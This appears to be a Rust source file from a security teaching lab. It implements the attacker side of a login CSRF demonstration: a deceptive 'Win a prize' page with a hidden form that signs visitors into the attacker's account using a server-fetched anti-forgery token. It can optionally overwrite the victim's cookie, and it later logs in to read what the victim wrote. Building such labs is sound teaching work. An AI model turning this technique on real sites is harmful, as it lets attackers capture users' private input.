//! Login CSRF (claim P3): a page that signs its visitor in to the attacker's own account. Whatever she writes down there
//! he reads at home.

use std::sync::Arc;

use axum::extract::rejection::FormRejection;
use axum::extract::{Form, Path, State};
use axum::http::{HeaderMap, HeaderValue, StatusCode, header};
use axum::response::{IntoResponse, Redirect, Response};
use domain::{Replay, SandboxId};
use lab::rooms::login_csrf::MALLORY;
use leptos::prelude::*;
use serde::Deserialize;
use serde_json::Value;

use super::lure::Lure;
use super::{attacking_policy, script};
use crate::parties::attacker::Attacker;
use crate::parties::attacker::page::document;

const ROOM: &str = "/api/lab/rooms/login-csrf";
/// How much of what his account holds is kept, in characters.
const KEPT: usize = 16 * 1024;

/// Whether to put a cookie into the visitor's browser on the way.
#[derive(Deserialize)]
pub(in crate::parties::attacker) struct Planting {
    #[serde(default)]
    plant: bool,
}

/// `GET /campaigns/{campaign}/login-csrf?sandbox=…&done=…`: the page.
///
/// The token in its form is a real one, handed out a moment ago: to this server, and not to the visitor's browser. With
/// `&plant=true` this server also puts the cookie that belongs to it into that browser. Where the two share a host, it
/// takes the place of the victim's own, `__Host-` or not: cookies ignore ports (RFC 6265bis §8.5).
pub(in crate::parties::attacker) async fn login_csrf(
    State(attacker): State<Arc<Attacker>>,
    Lure { sandbox, done, asked: Planting { plant }, .. }: Lure<Planting>,
) -> Response {
    // The query says where the lab is to note it.
    let action = format!("{}{ROOM}/login?sandbox={}", attacker.victim, sandbox);
    let form = OwnForm::ask_for(&attacker, &sandbox).await.unwrap_or_default();
    let page = document(
        "Win a prize",
        view! {
            <h1>"Win a prize"</h1>
            <p>
                "Your browser is being signed in to " {attacker.victim.to_string()} " as " {MALLORY.email}
                ". The password is right: it is his own account."
            </p>
            <form method="post" action=action>
                <input type="hidden" name="email" value=MALLORY.email/>
                <input type="hidden" name="password" value=MALLORY.password/>
                <input type="hidden" name="anti_forgery_token" value=form.anti_forgery_token.clone()/>
                <input type="hidden" name="sandbox" value=sandbox.to_string()/>
                <input type="hidden" name="return_to" value=done/>
                <button type="submit">"Take the prize"</button>
            </form>
            <script src="/login_csrf.js"></script>
        },
    );
    let planted = plant.then(|| [(header::SET_COOKIE, form.set_cookie())]);
    let mut response = (attacking_policy(&attacker), page).into_response();
    response.headers_mut().extend(planted.into_iter().flatten());
    response
}

/// `GET /login_csrf.js`: its script.
pub(in crate::parties::attacker) async fn login_csrf_script() -> impl IntoResponse {
    script(include_str!("login_csrf.js"))
}

/// In which sandbox the attacker has an account.
#[derive(Deserialize)]
pub(in crate::parties::attacker) struct NotesForm {
    sandbox: SandboxId,
}

/// `POST /campaigns/{campaign}/notes`: signs the attacker in from this server, with his own password and no browser, and
/// notes beside the replays what his account holds.
pub(in crate::parties::attacker) async fn read_notes(
    State(attacker): State<Arc<Attacker>>,
    Path(campaign): Path<String>,
    form: Result<Form<NotesForm>, FormRejection>,
) -> Response {
    let Ok(Form(form)) = form else { return StatusCode::BAD_REQUEST.into_response() };
    if attacker.campaigns().find(&campaign).is_none() {
        return StatusCode::NOT_FOUND.into_response();
    }
    let (status, answer) = match read(&attacker, &form.sandbox).await {
        Ok((status, answer)) => (Some(status), answer),
        Err(error) => (None, error.to_string()),
    };
    let at = attacker.clock.now();
    let path = format!("{ROOM}/notes");
    let replay = Replay { number: 0, at, path, authorization: None, cookie: None, status, answer };
    attacker.campaigns().add_replay(&campaign, replay);
    Redirect::to(&format!("/campaigns/{campaign}")).into_response()
}

async fn read(attacker: &Attacker, sandbox: &SandboxId) -> reqwest::Result<(u16, String)> {
    let OwnForm { cookie, anti_forgery_token } = OwnForm::ask_for(attacker, sandbox).await?;
    let cookie = format!("__Host-sandbox={sandbox}; {cookie}");
    let (email, password) = (MALLORY.email, MALLORY.password);
    let answer = attacker
        .client
        .post(format!("{}{ROOM}/login", attacker.victim))
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .header(header::COOKIE, &cookie)
        // None of these has a character that a form would have to encode.
        .body(format!("email={email}&password={password}&anti_forgery_token={anti_forgery_token}"))
        .send()
        .await?;
    let cookie = format!("{cookie}; {}", cookies(answer.headers()));
    let notes = attacker.client.get(format!("{}{ROOM}/notes", attacker.victim));
    let notes = notes.header(header::COOKIE, cookie).send().await?;
    Ok((notes.status().as_u16(), notes.text().await?.chars().take(KEPT).collect()))
}

/// The form as the victim's server hands it to anybody who asks: to this server, with a cookie of its own.
#[derive(Default)]
pub(super) struct OwnForm {
    cookie: String,
    anti_forgery_token: String,
}

impl OwnForm {
    pub(super) async fn ask_for(attacker: &Attacker, sandbox: &SandboxId) -> reqwest::Result<Self> {
        let form = attacker.client.get(format!("{}{ROOM}/form", attacker.victim));
        let answer = form.header(header::COOKIE, format!("__Host-sandbox={sandbox}")).send().await?;
        let cookie = cookies(answer.headers());
        let said: Value = serde_json::from_str(&answer.text().await?).unwrap_or_default();
        let anti_forgery_token = said["anti_forgery_token"].as_str().unwrap_or_default().to_owned();
        Ok(Self { cookie, anti_forgery_token })
    }

    /// What puts its cookie into a browser, in the place of one that the victim's server gave.
    fn set_cookie(&self) -> HeaderValue {
        let line = format!("{}; Path=/; Secure; HttpOnly; SameSite=Lax", self.cookie);
        HeaderValue::try_from(line).expect("it came in a header")
    }
}

/// What an answer sets, as the next request would carry it.
fn cookies(headers: &HeaderMap) -> String {
    let lines = headers.get_all(header::SET_COOKIE).iter().filter_map(|line| line.to_str().ok());
    lines.filter_map(|line| line.split(';').next()).collect::<Vec<_>>().join("; ")
}
